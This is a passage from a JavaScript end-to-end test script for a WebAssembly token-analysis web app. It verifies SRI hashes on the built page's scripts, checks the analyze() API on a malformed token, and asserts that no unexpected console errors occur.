  await check("every script in index.html carries a correct SRI hash (sha384)", async () => {
    const { createHash } = await import("node:crypto");
    const html = await readFile(join(dist, "index.html"), "utf8");
    const scripts = [...html.matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
    assert(scripts.length >= 3, `expected the app's scripts, found ${scripts.length}`);
    for (const tag of scripts) {
      const src = tag.match(/src="\.\/([^"]+)"/)?.[1];
      const sri = tag.match(/integrity="([^"]+)"/)?.[1];
      assert(src && sri, `script without src or integrity: ${tag}`);
      const want = "sha384-" + createHash("sha384").update(await readFile(join(dist, src))).digest("base64");
      assert(sri === want, `${src}: integrity ${sri} does not match the file (${want})`);
    }
  });

  await check("the JavaScript API analyze(case) returns the report", async () => {
    const summary = await page.evaluate(async () => (await wasm_bindgen.analyze({ tokens: ["not.a.token"] })).summary);
    assert(summary.tokens === 1 && summary.malformed === 1, JSON.stringify(summary));
  });

  await check("no console errors", async () => {
    // The CSP test and the trap-screen test above provoke errors on purpose; anything else is a failure.
    const errors = consoleErrors.filter((m) => !m.includes("exfil.example") && !m.includes("e2e-deliberate"));
    assert(errors.length === 0, errors.join("\n"));
  });
} finally {
  await context.close();
  await server.close();
}

finish("e2e", " in headless Chromium (screenshots in e2e/out/)");
